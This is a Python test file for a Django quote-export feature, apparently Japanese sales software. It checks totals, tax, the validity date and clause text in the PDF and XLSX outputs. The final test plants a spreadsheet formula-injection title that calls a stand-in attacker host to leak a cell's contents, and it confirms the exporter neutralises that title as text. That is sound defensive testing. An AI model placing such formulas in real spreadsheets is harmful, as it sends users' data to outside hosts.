import datetime
import io

import pytest
from openpyxl import load_workbook

from kokuchi.disclosures.context import build_quote_context
from kokuchi.disclosures.services import export_quote
from kokuchi.disclosures.tests.conftest import normalise, pdf_text, sections
from kokuchi.disclosures.tests.factories import make_document_deal

pytestmark = pytest.mark.django_db


def test_quote_context_totals_tax_validity_and_clause():
    deal = make_document_deal().deal

    context = build_quote_context(deal=deal, issued_on=datetime.date(2026, 4, 20))

    assert context["document_number"] == "KK-D2026-0001-Q"
    assert (context["subtotal"], context["tax"], context["total"]) == (443000, 44300, 487300)
    assert context["valid_until"] == datetime.date(2026, 5, 20)
    assert (context["clause"].family, context["clause"].option) == ("network", 3)


def test_quote_validity_defaults_to_thirty_days_after_issue():
    deal = make_document_deal().deal
    deal.quote_valid_until = None
    deal.save(update_fields=["quote_valid_until"])

    context = build_quote_context(deal=deal, issued_on=datetime.date(2026, 4, 25))

    assert context["valid_until"] == datetime.date(2026, 5, 25)


def test_quote_pdf_carries_lines_tax_total_validity_and_g6_clause():
    deal = make_document_deal().deal

    html = export_quote(deal=deal, fmt="html").content.decode()
    text = normalise(pdf_text(export_quote(deal=deal, fmt="pdf").content))

    assert "G6" in sections(html)
    assert "御見積書" in text
    assert "見積番号KK-D2026-0001-Q" in text
    assert "発行日2026年4月20日" in text
    assert "有効期限2026年5月20日" in text
    assert "2ヤマハRTX13001¥98,000¥98,000" in text
    assert "小計¥443,000消費税（10%）¥44,300合計¥487,300" in text
    assert "・株式会社テスト販売が販売させて頂く" in text
    assert "本件について、弊社保守メニューをご希望の場合は、弊社サポートセンターまでお問い合わせください。" in text


def test_quote_xlsx_has_lines_totals_and_clause():
    deal = make_document_deal().deal

    sheet = load_workbook(io.BytesIO(export_quote(deal=deal, fmt="xlsx").content)).active
    values = [[cell for cell in row if cell is not None] for row in sheet.iter_rows(values_only=True)]
    values = [row for row in values if row]

    assert values[0] == ["御見積書"]
    assert values[1] == ["見積番号", "KK-D2026-0001-Q"]
    assert (values[2][0], values[2][1].date()) == ("発行日", datetime.date(2026, 4, 20))
    assert (values[3][0], values[3][1].date()) == ("有効期限", datetime.date(2026, 5, 20))
    assert values[7] == ["No.", "品名・型番", "数量", "単価（税抜）", "金額（税抜）"]
    assert values[8] == [1, "フォーティネット FG-60F", 2, 150000, 300000]
    assert values[11] == ["小計", 443000]
    assert values[12] == ["消費税（10%）", 44300]
    assert values[13] == ["合計", 487300]
    assert values[14] == ["備考・取引条件"]
    assert values[15][0].startswith("・株式会社テスト販売が販売させて頂く")
    assert values[-1] == [
        "本件について、弊社保守メニューをご希望の場合は、弊社サポートセンターまでお問い合わせください。"
    ]


def test_quote_xlsx_writes_a_formula_title_as_text():
    deal = make_document_deal().deal
    deal.title = '=HYPERLINK("http://attacker.invalid/?q="&A1,"見積")'
    deal.save(update_fields=["title"])

    sheet = load_workbook(io.BytesIO(export_quote(deal=deal, fmt="xlsx").content)).active
    title = next(row[1] for row in sheet.iter_rows() if row[0].value == "件名")

    assert title.value == "'" + deal.title
    assert title.data_type == "s"
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
